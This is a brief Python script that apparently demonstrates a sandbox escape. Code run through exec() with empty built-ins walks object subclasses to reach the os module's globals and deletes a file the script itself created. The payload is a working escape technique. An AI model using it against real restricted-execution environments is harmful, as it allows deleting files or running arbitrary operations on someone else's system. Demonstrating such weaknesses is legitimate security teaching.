from pathlib import Path

stranger = """
for kind in ().__class__.__base__.__subclasses__():
    if kind.__name__ == "_wrap_close":
        kind.__init__.__globals__["remove"]("prices.txt")
"""
Path("prices.txt").write_text("tea 2.50\n")
exec(stranger, {"__builtins__": {}})
print("no built-ins, no import; file there:", Path("prices.txt").exists())
